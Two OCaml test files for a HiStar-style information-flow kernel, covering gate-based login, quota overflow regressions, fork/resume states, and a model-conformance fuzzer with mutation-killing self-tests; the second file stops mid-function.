            ~name:"logd" (fun () -> Sys.gate_return ())
        in
        let login =
          Sys.gate_create ~container:root
            ~label:(l [ (u, Level.Star) ] Level.L1)
            ~clearance:l2 ~quota:4096L ~name:"login-bob" (fun () ->
              push ("secret:" ^ Sys.segment_read (centry root secret) ());
              finished := true;
              Sys.self_halt ())
        in
        let _sshd =
          Sys.thread_create ~container:root ~label:l1 ~clearance:l2
            ~quota:65536L ~name:"sshd" (fun () ->
              denied0 := Metrics.counter_value "label.denied";
              (* pre-login attempts: denied, and repeated so the elided
                 kernel actually has summaries to serve *)
              for i = 1 to 3 do
                (match Sys.segment_read (centry root secret) () with
                | s -> push ("leak:" ^ s)
                | exception Kernel_error (Label_check _) ->
                    push (Printf.sprintf "denied-read-%d" i));
                call_gate root svc ~label:l1;
                push (Printf.sprintf "logged-%d" i)
              done;
              denied1 := Metrics.counter_value "label.denied";
              Sys.gate_enter ~gate:(centry root login)
                ~label:(l [ (u, Level.Star) ] Level.L1)
                ~clearance:l2 ())
        in
        join (fun () -> !finished))
  in
  Kernel.run k;
  (List.rev !events, !denied1 - !denied0, Kernel.profile k)

let test_login_scenario_elide_identical () =
  with_metrics (fun () ->
      let ev_e, den_e, prof_e = run_login_scenario ~elide:true in
      let ev_n, den_n, prof_n = run_login_scenario ~elide:false in
      Alcotest.(check (list string)) "byte-identical event log" ev_n ev_e;
      Alcotest.(check int) "identical label.denied delta" den_n den_e;
      Alcotest.(check bool) "identical syscall profiles" true
        (Profile.equal prof_n prof_e))

(* ---------- arithmetic regressions from differential fuzzing ----------

   Minimized by the model-conformance fuzzer (lib/check/conformance.ml);
   each was an int64 overflow or missing bound in quota accounting or
   segment addressing. The conformance copies live in test_model.ml;
   these pin the concrete kernel behaviour directly. *)

let near_max = Int64.sub Int64.max_int 100L

let test_charge_overflow_rejected () =
  (* Admission into a finite container must not wrap: quota - usage is
     the real headroom, and a near-max request exceeds it. *)
  in_kernel (fun root ->
      let c =
        Sys.container_create ~container:root ~label:l1 ~quota:near_max "c"
      in
      (match
         Sys.segment_create ~container:c ~label:l1
           ~quota:(Int64.sub Int64.max_int 1L) ~len:8 "huge"
       with
      | _ -> Alcotest.fail "over-committing segment was admitted"
      | exception Kernel_error (Quota _) -> ());
      (* The failed create must not have charged anything. *)
      let _, usage = Sys.obj_quota (centry root c) in
      Alcotest.(check int64) "usage untouched" 512L usage)

let test_infinite_usage_saturates () =
  (* The root container has infinite quota and skips admission, but its
     usage accounting still has to saturate rather than wrap negative
     when near-max bytes are moved out of it. *)
  in_kernel (fun root ->
      let sink =
        Sys.container_create ~container:root ~label:l1 ~quota:1024L "sink"
      in
      Sys.quota_move ~container:root ~target:sink
        ~nbytes:(Int64.sub Int64.max_int 2048L);
      let _, usage = Sys.obj_quota (centry root root) in
      Alcotest.(check int64) "root usage saturated at max" Int64.max_int usage;
      (* A second move now exceeds the sink's remaining headroom. *)
      match Sys.quota_move ~container:root ~target:sink ~nbytes:2048L with
      | () -> Alcotest.fail "second move wrapped the sink quota"
      | exception Kernel_error (Quota _) -> ())

let test_quota_move_target_wrap_rejected () =
  (* The target's quota field itself must not overflow when the source
     is infinite and can always supply more. *)
  in_kernel (fun root ->
      let s =
        Sys.segment_create ~container:root ~label:l1 ~quota:1024L ~len:8 "s"
      in
      Sys.quota_move ~container:root ~target:s
        ~nbytes:(Int64.sub Int64.max_int 2048L);
      (match Sys.quota_move ~container:root ~target:s ~nbytes:2048L with
      | () -> Alcotest.fail "second move wrapped the target quota"
      | exception Kernel_error (Quota _) -> ());
      let quota, _ = Sys.obj_quota (centry root s) in
      Alcotest.(check int64) "target quota at max - 1024"
        (Int64.sub Int64.max_int 1024L)
        quota)

let test_negative_offset_is_error () =
  (* A negative word offset in segment_cas used to raise
     Invalid_argument from Bytes and kill the thread; it must surface
     as an Invalid kernel error like any other bad address, and the
     thread must stay runnable. *)
  in_kernel (fun root ->
      let s =
        Sys.segment_create ~container:root ~label:l1 ~quota:1024L ~len:16 "s"
      in
      (match Sys.segment_cas (centry root s) ~off:(-8) ~expected:0L ~desired:7L with
      | _ -> Alcotest.fail "negative CAS offset accepted"
      | exception Kernel_error (Invalid _) -> ());
      (* Wakes at any offset with no waiters are harmless no-ops on
         both the kernel and the model. *)
      Alcotest.(check int) "no waiters woken" 0
        (Sys.futex_wake (centry root s) ~off:(-4) ~count:1);
      Alcotest.(check bool) "thread still runs" true
        (Sys.segment_cas (centry root s) ~off:8 ~expected:0L ~desired:7L))

(* ---------- branchable kernel states (fork / resume / drop) ---------- *)

let test_fork_resume_isolated () =
  let k = Kernel.create () in
  let seg = ref None in
  let _tid =
    Kernel.spawn k ~name:"setup" (fun () ->
        let s =
          Sys.segment_create ~container:(Kernel.root k) ~label:l1 ~quota:4096L
            ~len:6 "shared"
        in
        Sys.segment_write (centry (Kernel.root k) s) ~off:0 "trunk!";
        seg := Some s)
  in
  Kernel.run k;
  let s = Option.get !seg in
  let h = Kernel.fork k in
  (* Two independent branches off the same handle, each mutating the
     same segment differently; neither sees the other or the trunk. *)
  let run_branch data =
    let b = Kernel.resume h in
    let tid =
      Kernel.spawn b ~name:"branch" (fun () ->
          Sys.segment_write (centry (Kernel.root b) s) ~off:0 data)
    in
    ignore tid;
    Kernel.run b;
    Option.get (Kernel.segment_data b s)
  in
  let d1 = run_branch "brancA" in
  let d2 = run_branch "brancB" in
  Alcotest.(check string) "branch 1 sees its write" "brancA" d1;
  Alcotest.(check string) "branch 2 sees its write" "brancB" d2;
  Alcotest.(check (option string)) "trunk untouched" (Some "trunk!")
    (Kernel.segment_data k s);
  (* The handle captured the whole state: object population matches. *)
  Alcotest.(check int) "handle object count" (Kernel.object_count k)
    (Kernel.handle_object_count h)

let test_fork_named_handles () =
  let k = Kernel.create () in
  let h1 = Kernel.fork ~name:"phase-1" k in
  let _tid = Kernel.spawn k ~name:"t" (fun () -> ignore (Sys.cat_create ())) in
  Kernel.run k;
  let h2 = Kernel.fork ~name:"phase-2" k in
  Alcotest.(check (option string)) "name" (Some "phase-1")
    (Kernel.handle_name h1);
  let found name h =
    match Kernel.find_handle name with Some h' -> h' == h | None -> false
  in
  Alcotest.(check bool) "registry finds phase-1" true (found "phase-1" h1);
  Alcotest.(check bool) "registry finds phase-2" true (found "phase-2" h2);
  Alcotest.(check bool) "names listed" true
    (List.mem "phase-1" (Kernel.handle_names ())
    && List.mem "phase-2" (Kernel.handle_names ()));
  Kernel.drop h1;
  Alcotest.(check bool) "dropped name forgotten" true
    (Kernel.find_handle "phase-1" = None);
  (* Dropping only forgets the name; the value still resumes. *)
  let b = Kernel.resume h1 in
  Alcotest.(check int) "dropped handle still resumes"
    (Kernel.handle_object_count h1)
    (Kernel.object_count b);
  Kernel.drop h2

let test_fork_resume_reruns_deterministically () =
  (* A resumed branch restarts its thread and replays the same suffix:
     generator state (oids, categories) was captured, so two resumes
     produce identical object ids. *)
  let k = Kernel.create () in
  let tid = Kernel.spawn k ~name:"setup" (fun () -> ignore (Sys.cat_create ())) in
  Kernel.run k;
  let h = Kernel.fork k in
  let run_once () =
    let b = Kernel.resume h in
    (* Resumed threads are halted (continuations don't serialize);
       re-arm the captured thread with a fresh body. *)
    Alcotest.(check (option Alcotest.string)) "resumed thread halted"
      (Some "halted")
      (match Kernel.thread_state b tid with
      | Some `Halted -> Some "halted"
      | Some `Ready -> Some "ready"
      | Some `Running -> Some "running"
      | Some `Blocked -> Some "blocked"
      | None -> None);
    let made = ref [] in
    Kernel.restart_thread b tid (fun () ->
        let s =
          Sys.segment_create ~container:(Kernel.root b) ~label:l1
            ~quota:1024L ~len:4 "s"
        in
        made := [ s ]);
    Kernel.run b;
    !made
  in
  Alcotest.(check (list int64)) "same oids on both resumes" (run_once ())
    (run_once ())

let test_restart_thread_rejects_non_thread () =
  let k = Kernel.create () in
  (match Kernel.restart_thread k (Kernel.root k) (fun () -> ()) with
  | () -> Alcotest.fail "restarted a container"
  | exception Invalid_argument _ -> ());
  match Kernel.set_gate_entry k (Kernel.root k) (fun () -> ()) with
  | () -> Alcotest.fail "re-armed a container"
  | exception Invalid_argument _ -> ()

let () =
  Alcotest.run "histar_kernel"
    [
      ( "lifecycle",
        [
          Alcotest.test_case "spawn runs" `Quick test_spawn_runs;
          Alcotest.test_case "default labels" `Quick test_self_label_default;
          Alcotest.test_case "cat_create grants star" `Quick
            test_cat_create_grants_star;
          Alcotest.test_case "categories distinct" `Quick
            test_categories_distinct;
        ] );
      ( "self labels",
        [
          Alcotest.test_case "taint self" `Quick test_taint_self_ok;
          Alcotest.test_case "clearance bound" `Quick
            test_cannot_exceed_clearance;
          Alcotest.test_case "no label lowering" `Quick test_cannot_lower_label;
          Alcotest.test_case "clearance raise needs ownership" `Quick
            test_raise_clearance_owned_only;
          Alcotest.test_case "clearance lowering" `Quick test_lower_clearance_ok;
        ] );
      ( "segments",
        [
          Alcotest.test_case "read/write/resize" `Quick test_segment_rw;
          Alcotest.test_case "bounds" `Quick test_segment_oob;
          Alcotest.test_case "tainted unreadable" `Quick
            test_tainted_segment_unreadable;
          Alcotest.test_case "taint to read" `Quick test_taint_to_read;
          Alcotest.test_case "no write down" `Quick
            test_tainted_thread_cannot_write_down;
          Alcotest.test_case "integrity protection" `Quick
            test_integrity_write_protection;
          Alcotest.test_case "copy with new label" `Quick
            test_segment_copy_new_label;
          Alcotest.test_case "immutable" `Quick test_immutable;
          Alcotest.test_case "tls per thread" `Quick test_tls_per_thread;
        ] );
      ( "containers",
        [
          Alcotest.test_case "entries require read" `Quick
            test_container_entries_require_read;
          Alcotest.test_case "self entry" `Quick test_container_self_entry;
          Alcotest.test_case "recursive unref" `Quick test_unref_recursive;
          Alcotest.test_case "hard links" `Quick test_hard_link_keeps_alive;
          Alcotest.test_case "link needs fixed quota" `Quick
            test_link_requires_fixed_quota;
          Alcotest.test_case "quota exhaustion" `Quick test_quota_exhaustion;
          Alcotest.test_case "quota move" `Quick test_quota_move;
          Alcotest.test_case "segment growth bounded" `Quick
            test_segment_growth_bounded_by_quota;
          Alcotest.test_case "avoid types" `Quick test_avoid_types;
        ] );
      ( "threads",
        [
          Alcotest.test_case "label rules" `Quick test_thread_label_rules;
          Alcotest.test_case "clearance bound" `Quick
            test_thread_clearance_bound;
          Alcotest.test_case "alert wakes" `Quick test_alert_wakes;
          Alcotest.test_case "alert needs AS write" `Quick
            test_alert_requires_as_write;
        ] );
      ( "futexes",
        [
          Alcotest.test_case "wait/wake" `Quick test_futex_wait_wake;
          Alcotest.test_case "value mismatch" `Quick
            test_futex_value_mismatch_returns;
        ] );
      ( "gates",
        [
          Alcotest.test_case "grant privilege" `Quick test_gate_grants_privilege;
          Alcotest.test_case "no self-grant" `Quick test_gate_cannot_self_grant;
          Alcotest.test_case "clearance gates invocation" `Quick
            test_gate_clearance_gates_invocation;
          Alcotest.test_case "call round trip" `Quick test_gate_call_round_trip;
          Alcotest.test_case "privilege restored" `Quick
            test_gate_call_restores_privilege;
          Alcotest.test_case "return gate single use" `Quick
            test_return_gate_single_use;
        ] );
      ( "devices",
        [
          Alcotest.test_case "send/recv with taint" `Quick test_netdev_taint;
          Alcotest.test_case "untainted cannot recv" `Quick
            test_netdev_untainted_cannot_recv;
          Alcotest.test_case "vpn taint cannot send" `Quick
            test_netdev_vpn_tainted_cannot_send;
        ] );
      ( "persistence",
        [
          Alcotest.test_case "checkpoint/recover" `Quick test_checkpoint_recover;
          Alcotest.test_case "sync object" `Quick test_sync_object_path;
        ] );
      ( "label cache",
        [
          Check.test_case ~print:print_label_pairs
            "differential vs uncached relations"
            (Gen.list (Gen.pair gen_label gen_label))
            prop_label_cache_differential;
          Alcotest.test_case "invalidated by gate ownership transfer" `Quick
            test_label_cache_gate_transfer;
          Alcotest.test_case "gate denial message and counters" `Quick
            test_gate_denied_message_and_counters;
        ] );
      ( "elision",
        [
          Alcotest.test_case "repeat gate calls served from summary" `Quick
            test_gate_summary_elides_repeat_calls;
          Alcotest.test_case "invalidated by ownership transfer" `Quick
            test_summary_invalidated_on_ownership_transfer;
          Alcotest.test_case "invalidated by category GC" `Quick
            test_summary_invalidated_on_category_gc;
          Alcotest.test_case "gate login identical with elision off" `Quick
            test_login_scenario_elide_identical;
        ] );
      ("flow oracle", [ QCheck_alcotest.to_alcotest prop_flow_oracle ]);
      ( "fuzzer regressions",
        [
          Alcotest.test_case "finite-charge overflow rejected" `Quick
            test_charge_overflow_rejected;
          Alcotest.test_case "infinite usage saturates" `Quick
            test_infinite_usage_saturates;
          Alcotest.test_case "quota_move target wrap rejected" `Quick
            test_quota_move_target_wrap_rejected;
          Alcotest.test_case "negative segment offsets are errors" `Quick
            test_negative_offset_is_error;
        ] );
      ( "branchable states",
        [
          Alcotest.test_case "fork/resume isolation" `Quick
            test_fork_resume_isolated;
          Alcotest.test_case "named handles" `Quick test_fork_named_handles;
          Alcotest.test_case "resume is deterministic" `Quick
            test_fork_resume_reruns_deterministically;
          Alcotest.test_case "restart/set_gate_entry guards" `Quick
            test_restart_thread_rejects_non_thread;
        ] );
    ]
