(* The executable reference model and the conformance fuzzer built on
   it: Mlabel-vs-Label differential properties (the model's naive label
   algebra against the production Map-based one), the §6.2 gate-login
   scenarios replayed inside the model, a bounded clean conformance
   fuzz over the real kernel, mutation-killing self-tests (each
   [Kernel.weaken] switch must be caught within a fixed budget at the
   default seed), and the container-quota conformance property. *)

module Mlabel = Histar_model.Mlabel
module Model = Histar_model.Model
module Conf = Histar_check.Conformance
module Check = Histar_check.Check
module Gen = Histar_check.Gen
module Kernel = Histar_core.Kernel
open Histar_label

(* ---------- Mlabel vs Label differential ---------- *)

(* A label description both algebras can build: default rank 1..4 and
   (category, rank 0..5) entries over a small category universe, so
   generated pairs collide on categories often. *)
type ldesc = { ld_def : int; ld_ents : (int64 * int) list }

let gen_ldesc =
  let open Gen in
  let* d = int_range 1 4 in
  let* ents = resize 4 (list (pair (map Int64.of_int (int_range 0 7)) (int_range 0 5))) in
  return { ld_def = d; ld_ents = ents }

let print_ldesc { ld_def; ld_ents } =
  Printf.sprintf "{d=%d;[%s]}" ld_def
    (String.concat ";"
       (List.map (fun (c, r) -> Printf.sprintf "(%Ld,%d)" c r) ld_ents))

let mlabel_of d = Mlabel.of_entries d.ld_ents d.ld_def

let label_of d =
  Label.of_list
    (List.map (fun (c, r) -> (Category.of_int64 c, Level.of_rank r)) d.ld_ents)
    (Level.of_rank d.ld_def)

(* Canonical form shared by both: sorted non-default entries + default. *)
let canon_m l = (Mlabel.entries l, Mlabel.default l)
let canon_r l = Label.ranked l

let ranked = Alcotest.(pair (list (pair int64 int)) int)

let prop_ops_agree (a, b) =
  let ma = mlabel_of a and mb = mlabel_of b in
  let ra = label_of a and rb = label_of b in
  Check.ensure ~msg:"construction"
    (canon_m ma = canon_r ra && canon_m mb = canon_r rb);
  Check.ensure ~msg:"leq" (Mlabel.leq ma mb = Label.leq ra rb);
  Check.ensure ~msg:"lub" (canon_m (Mlabel.lub ma mb) = canon_r (Label.lub ra rb));
  Check.ensure ~msg:"glb" (canon_m (Mlabel.glb ma mb) = canon_r (Label.glb ra rb));
  Check.ensure ~msg:"raise_j" (canon_m (Mlabel.raise_j ma) = canon_r (Label.raise_j ra));
  Check.ensure ~msg:"lower_star"
    (canon_m (Mlabel.lower_star ma) = canon_r (Label.lower_star ra));
  Check.ensure ~msg:"can_observe"
    (Mlabel.can_observe ~thread:ma ~obj:mb = Label.can_observe ~thread:ra ~obj:rb);
  Check.ensure ~msg:"can_modify"
    (Mlabel.can_modify ~thread:ma ~obj:mb = Label.can_modify ~thread:ra ~obj:rb);
  Check.ensure ~msg:"can_flow"
    (Mlabel.can_flow ~src:ma ~dst:mb = Label.can_flow ~src:ra ~dst:rb);
  Check.ensure ~msg:"taint_to_read"
    (canon_m (Mlabel.taint_to_read ~thread:ma ~obj:mb)
    = canon_r (Label.taint_to_read ~thread:ra ~obj:rb))

let test_label_algebra_units () =
  (* The identities the fuzzer's bias leans on, spelled out once. *)
  let star_u = Mlabel.of_entries [ (7L, Mlabel.star) ] Mlabel.l1 in
  let floor =
    Mlabel.lower_star
      (Mlabel.lub (Mlabel.raise_j (Mlabel.make Mlabel.l1)) (Mlabel.raise_j star_u))
  in
  Alcotest.(check ranked) "floor keeps the gate's stars"
    ([ (7L, Mlabel.star) ], Mlabel.l1)
    (canon_m floor);
  Alcotest.(check bool) "floor is below everything at owned cats" true
    (Mlabel.leq floor (Mlabel.make Mlabel.l3));
  let tainted = Mlabel.of_entries [ (3L, Mlabel.l3) ] Mlabel.l1 in
  Alcotest.(check ranked) "taint_to_read picks up object taint"
    ([ (3L, Mlabel.l3) ], Mlabel.l1)
    (canon_m (Mlabel.taint_to_read ~thread:(Mlabel.make Mlabel.l1) ~obj:tainted))

(* ---------- §6.2 gate-based login in the model ---------- *)

(* Drive [Model.step] directly; any error response fails the test. *)
let mstep st tid req =
  match Model.step st ~thread:tid req with
  | st', resp, Model.S_continue -> (st', resp)
  | _, _, Model.S_thread_gone -> Alcotest.fail "model thread destroyed"
  | _, _, Model.S_stuck (e, m) ->
      Alcotest.fail
        (Printf.sprintf "model thread stuck: %s: %s" (Model.err_to_string e) m)

let owned_of st tid =
  match Model.thread_label_of st tid with
  | None -> Alcotest.fail "thread has no label"
  | Some l -> Mlabel.owned l

let l1m = Mlabel.make Mlabel.l1
let l2m = Mlabel.make Mlabel.l2

(* One user: category [u] guards their data; the auth daemon exposes a
   grant gate owning {u⋆} (returns ownership on success, §6.2) and a
   check gate owning the check category [c] (never returns it). *)
let login_world () =
  let st = Model.init () in
  let daemon = Model.boot_thread st in
  let root = Model.root st in
  let st, u = match mstep st daemon Model.Cat_create with
    | st, Model.R_cat u -> (st, u)
    | _ -> Alcotest.fail "cat_create"
  in
  let st, c = match mstep st daemon Model.Cat_create with
    | st, Model.R_cat c -> (st, c)
    | _ -> Alcotest.fail "cat_create"
  in
  let gate ~owns ~keep descrip st =
    let gc_spec =
      {
        Model.sc_container = root;
        sc_label = Mlabel.set l1m owns Mlabel.star;
        sc_quota = 8192L;
        sc_descrip = descrip;
      }
    in
    match
      mstep st daemon
        (Model.Gate_create
           { gc_spec; gc_clearance = l2m; gc_keep = keep; gc_once = false })
    with
    | st, Model.R_oid g -> (st, g)
    | _ -> Alcotest.fail "gate_create"
  in
  let st, grant = gate ~owns:u ~keep:true "grant bob" st in
  let st, check = gate ~owns:c ~keep:false "check bob" st in
  let st, caller =
    Model.spawn st ~container:root ~label:l1m ~clearance:l2m ~descrip:"sshd"
  in
  (st, root, u, c, grant, check, caller)

let gate_call ~gate ~retcon ?label st tid =
  Model.step st ~thread:tid
    (Model.Gate_call
       {
         g_gate = { Model.container = retcon; object_id = gate };
         g_label = label;
         g_clear = None;
         g_verify = l2m;
         g_retcon = retcon;
       })

let test_model_login_grants_exactly_user_star () =
  let st, root, u, _c, grant, _check, caller = login_world () in
  Alcotest.(check (list int64)) "caller starts with no ownership" []
    (owned_of st caller);
  match gate_call ~gate:grant ~retcon:root st caller with
  | st, Model.R_unit, Model.S_continue ->
      Alcotest.(check (list int64)) "success grants exactly {u}" [ u ]
        (owned_of st caller);
      (* The granted star rides an otherwise unchanged label: no taint. *)
      let l = Option.get (Model.thread_label_of st caller) in
      Alcotest.(check ranked) "label is {1, u:*}"
        ([ (u, Mlabel.star) ], Mlabel.l1)
        (canon_m l)
  | _, r, _ ->
      Alcotest.fail
        ("grant-gate call failed: "
        ^ match r with Model.R_err (e, m) -> Model.err_to_string e ^ ": " ^ m | _ -> "?")

let test_model_login_failure_leaks_nothing () =
  (* The check gate models the wrong-password path: the service runs
     owning the check category but returns without granting it. The
     caller must come back with ownership of nothing — the check
     category never leaks. *)
  let st, root, _u, _c, _grant, check, caller = login_world () in
  match gate_call ~gate:check ~retcon:root st caller with
  | st, Model.R_unit, Model.S_continue ->
      Alcotest.(check (list int64)) "failed login grants nothing" []
        (owned_of st caller);
      let l = Option.get (Model.thread_label_of st caller) in
      Alcotest.(check ranked) "caller label untouched" ([], Mlabel.l1) (canon_m l)
  | _ -> Alcotest.fail "check-gate call did not complete"

let test_model_login_below_floor_rejected () =
  (* A caller may not launder its own taint through the gate: asking to
     run below the floor (default 0 < its own default 1) is E_label. *)
  let st, root, _u, _c, grant, _check, caller = login_world () in
  match gate_call ~gate:grant ~retcon:root ~label:(Mlabel.make Mlabel.l0) st caller with
  | _, Model.R_err (Model.E_label, _), Model.S_continue -> ()
  | _, Model.R_err (e, m), _ ->
      Alcotest.fail
        (Printf.sprintf "wrong error: %s: %s" (Model.err_to_string e) m)
  | _ -> Alcotest.fail "below-floor request was accepted"

(* ---------- conformance: clean kernel ---------- *)

let test_fuzz_clean_kernel () =
  (* The headline acceptance check: a bounded coverage-guided fuzz on
     the unmodified kernel finds no divergence from the model. The
     budget is well above every mutant's detection point (538 traces,
     worst case) and still runs in well under a second;
     HISTAR_CHECK_LONG=1 (nightly CI) multiplies it by 8. *)
  let runs =
    if Stdlib.Sys.getenv_opt "HISTAR_CHECK_LONG" = Some "1" then 9600 else 1200
  in
  let stats = Conf.run_fuzz ~runs () in
  (match stats.Conf.fs_divergence with
  | None -> ()
  | Some (trace, detail) ->
      Alcotest.fail
        (Printf.sprintf "kernel diverged from model:\n%s\n%s\n%s"
           (Conf.report stats) detail (Conf.pp_trace trace)));
  if stats.Conf.fs_corpus < 100 then
    Alcotest.fail
      (Printf.sprintf "coverage collapsed: only %d signatures in %d runs"
         stats.Conf.fs_corpus stats.Conf.fs_runs)

(* ---------- mutation-killing self-tests ---------- *)

(* Each [weaken] switch deletes one label comparison from the kernel.
   The fuzzer must catch all three within a bounded budget at the
   default seed, or it has lost its teeth. Detection points at
   [Check.default_seed]: segment 538 traces, gate 53, unref 70 — the
   2000-trace budget leaves a wide margin and still takes < 0.5 s. *)
let assert_mutant_caught ?seed_corpus name weaken =
  let stats =
    Conf.run_fuzz ~weaken ~runs:2000 ~seed:Check.default_seed ?seed_corpus ()
  in
  match stats.Conf.fs_divergence with
  | Some (trace, _detail) ->
      (* The shrunk witness must itself still witness the divergence. *)
      (match Conf.compare_traces ~weaken trace with
      | Some _ -> ()
      | None ->
          Alcotest.fail
            (Printf.sprintf "%s: shrunk trace no longer diverges:\n%s" name
               (Conf.pp_trace trace)));
      if Conf.compare_traces trace <> None then
        Alcotest.fail
          (Printf.sprintf
             "%s: witness also diverges on the unweakened kernel:\n%s" name
             (Conf.pp_trace trace))
  | None ->
      Alcotest.fail
        (Printf.sprintf "mutant %s survived %d traces (%s)" name
           stats.Conf.fs_runs (Conf.report stats))

let test_mutant_segment_read_taint () =
  assert_mutant_caught "segment read taint" Kernel.Weaken_segment_read_taint

let test_mutant_gate_star_grant () =
  assert_mutant_caught "gate star grant" Kernel.Weaken_gate_star_grant

let test_mutant_unref_check () =
  assert_mutant_caught "unref permission" Kernel.Weaken_unref_check

(* [Weaken_stale_summary] serves per-gate flow summaries without the
   epoch/thread validation. Its observable window is structurally
   narrow: a summary hit needs the requested (label, clearance,
   verify) triple pointer-equal to the recorded one, and with [None]
   specs the harness derives the triple from the thread's own
   label/clearance — so a pointer-equal triple implies identical check
   inputs and an identical verdict. The only stale serve that can
   diverge is two identical explicit [Some] draws bracketing a change
   the triple does not capture: an ownership-backed clearance raise
   that flips C_R ⊑ C_T ⊔ C_G (taint raises are masked earlier by the
   return-container modify check). Blind generation never composed
   that shape at the default seed (0 catches in 20 000 traces), so the
   fuzzer is seeded with the §6.2-shaped stale window below and the
   differential oracle does the catching: detection at trace index 0,
   shrunk to the minimal 6-op witness. *)
let stale_summary_seed_corpus =
  let l1 = { Conf.ls_def = 2; ls_ents = [] } in
  let l2 = { Conf.ls_def = 3; ls_ents = [] } in
  let lv = { Conf.ls_def = 4; ls_ents = [] } in
  (* requested clearance {c0 3, 2}: above C_T ⊔ C_G until the thread,
     owning c0, raises its own clearance to match *)
  let cr = { Conf.ls_def = 3; ls_ents = [ (0, 4) ] } in
  let call = Conf.O_gate_call ((0, 2), Some l1, Some cr, lv, 0) in
  [
    [
      Conf.O_cat_create;
      (* cat_create grants clearance c0→3; drop back to {2} so the
         first call's requested clearance is out of reach *)
      Conf.O_self_set_clearance l2;
      Conf.O_gate_create (0, l1, l2, 4096L, false);
      call;
      Conf.O_self_set_clearance cr;
      call;
    ];
  ]

let test_mutant_stale_summary () =
  assert_mutant_caught ~seed_corpus:stale_summary_seed_corpus "stale summary"
    Kernel.Weaken_stale_summary;
  (* the correct kernel must conform on the very window the mutant
     fails: the epoch bump from self_set_clearance invalidates the
     summary and the second call is re-checked *)
  List.iter
    (fun trace ->
      match Conf.compare_traces trace with
      | None -> ()
      | Some d ->
          Alcotest.fail ("unweakened kernel diverges on stale window: " ^ d))
    stale_summary_seed_corpus

(* ---------- container quota property ---------- *)

let prop_quota_conformance trace =
  match Conf.compare_traces trace with
  | None -> ()
  | Some detail ->
      Check.ensure ~msg:("quota divergence: " ^ detail) false

(* ---------- replayable regressions ---------- *)

(* Minimized traces for kernel bugs the differential approach exposed
   (fixed in lib/core/kernel.ml); kept as conformance regressions so a
   reintroduction shows up as a divergence, not just a unit failure. *)
let l1s = { Conf.ls_def = 2; ls_ents = [] }
let near_max = Int64.sub Int64.max_int 100L

(* Each regression trace is checked in both execution modes: the
   historical whole-trace replay and the fork-based per-op path the
   fuzz corpus now runs on. The verdicts must agree — and be clean. *)
let regression name trace () =
  List.iter
    (fun mode ->
      match Conf.compare_traces ~mode trace with
      | None -> ()
      | Some detail ->
          Alcotest.fail
            (Printf.sprintf "%s regressed (%s mode): %s" name
               (match mode with `Fork -> "fork" | `Replay -> "replay")
               detail))
    [ `Replay; `Fork ]

let trace_charge_overflow =
  (* Finite-container admission check used [usage + amount > quota],
     which wraps for huge requests and over-commits. *)
  [
    Conf.O_container_create (0, l1s, near_max, []);
    Conf.O_segment_create (2, l1s, Int64.sub Int64.max_int 1L, 8);
    Conf.O_get_quota (0, 2);
  ]

let trace_infinite_usage_wrap =
  (* Infinite containers skip admission, but their usage accounting
     still has to saturate rather than wrap negative. *)
  [
    Conf.O_container_create (0, l1s, 65536L, []);
    Conf.O_quota_move (0, 2, near_max);
    Conf.O_quota_move (0, 2, near_max);
    Conf.O_get_quota (0, 0);
    Conf.O_get_quota (0, 2);
  ]

let trace_quota_move_wrap =
  (* Repeated quota_move into the same target overflowed the target's
     quota field when the source was infinite. *)
  [
    Conf.O_segment_create (0, l1s, 1024L, 8);
    Conf.O_quota_move (0, 2, near_max);
    Conf.O_quota_move (0, 2, near_max);
    Conf.O_get_quota (0, 2);
  ]

let trace_negative_cas_offset =
  (* segment_cas/futex with a negative offset raised Invalid_argument
     inside the kernel and killed the thread instead of returning an
     Invalid error. *)
  [
    Conf.O_segment_create (0, l1s, 1024L, 16);
    Conf.O_segment_cas ((0, 2), -8, 0L, 7L);
    Conf.O_futex_wake ((0, 2), -4, 1);
  ]

let trace_one_shot_gate =
  (* One-shot service gates (the mechanism beneath lib/lio's scope
     excursions) reap themselves from the naming container on first
     invocation: the second call through the same entry must fail
     identically — the name is gone — in kernel and model alike.
     O_gate_create_oneshot is never emitted by gen_trace (that would
     shift the pinned mutation-catch indices), so this hand-written
     trace is its conformance coverage. *)
  [
    Conf.O_gate_create_oneshot (0, l1s, { Conf.ls_def = 3; ls_ents = [] },
      4096L, false);
    Conf.O_gate_call ((0, 2), None, None, { Conf.ls_def = 4; ls_ents = [] }, 0);
    Conf.O_gate_call ((0, 2), None, None, { Conf.ls_def = 4; ls_ents = [] }, 0);
  ]

let regression_traces =
  [
    ("charge overflow", trace_charge_overflow);
    ("infinite-container usage wrap", trace_infinite_usage_wrap);
    ("quota_move target wrap", trace_quota_move_wrap);
    ("negative CAS offset crash", trace_negative_cas_offset);
    ("one-shot gate reaped", trace_one_shot_gate);
  ]

let regress_charge_overflow = regression "charge overflow" trace_charge_overflow

let regress_infinite_usage_wrap =
  regression "infinite-container usage wrap" trace_infinite_usage_wrap

let regress_quota_move_wrap =
  regression "quota_move target wrap" trace_quota_move_wrap

let regress_negative_cas_offset =
  regression "negative CAS offset crash" trace_negative_cas_offset

let regress_one_shot_gate = regression "one-shot gate reaped" trace_one_shot_gate

(* ---------- fork-based corpus: the double-run discipline ----------

   The fuzz loop now runs on branchable kernel states (each corpus
   entry keeps a [Kernel.fork] per op boundary; mutants resume from
   the longest common prefix instead of replaying it). The discipline
   that keeps the repro lines honest: at a pinned seed, the fork path
   must be bit-identical to the replay path — same coverage
   signatures, same corpus evolution, same divergences, same shrunk
   witness, same report. *)

let test_regression_traces_cov_identical () =
  List.iter
    (fun (name, trace) ->
      Alcotest.(check int)
        (name ^ ": coverage signature identical")
        (Conf.trace_cov ~mode:`Replay trace)
        (Conf.trace_cov ~mode:`Fork trace))
    regression_traces

let test_fuzz_fork_replay_clean_identical () =
  let run mode =
    Conf.run_fuzz ~runs:300 ~seed:Check.default_seed ~mode ()
  in
  let f = run `Fork and r = run `Replay in
  Alcotest.(check string) "clean-kernel reports identical" (Conf.report r)
    (Conf.report f);
  Alcotest.(check int) "same corpus size" r.Conf.fs_corpus f.Conf.fs_corpus;
  Alcotest.(check int) "same run count" r.Conf.fs_runs f.Conf.fs_runs

let test_fuzz_fork_replay_mutant_identical () =
  (* A weakened kernel must be caught at the same run, shrunk to the
     same witness, and reported with the same replay line, whichever
     executor the corpus ran on. *)
  let run mode =
    Conf.run_fuzz ~weaken:Kernel.Weaken_gate_star_grant ~runs:200
      ~seed:Check.default_seed ~mode ()
  in
  let f = run `Fork and r = run `Replay in
  Alcotest.(check string) "mutant reports identical" (Conf.report r)
    (Conf.report f);
  match (f.Conf.fs_divergence, r.Conf.fs_divergence) with
  | Some (tf, df), Some (tr, dr) ->
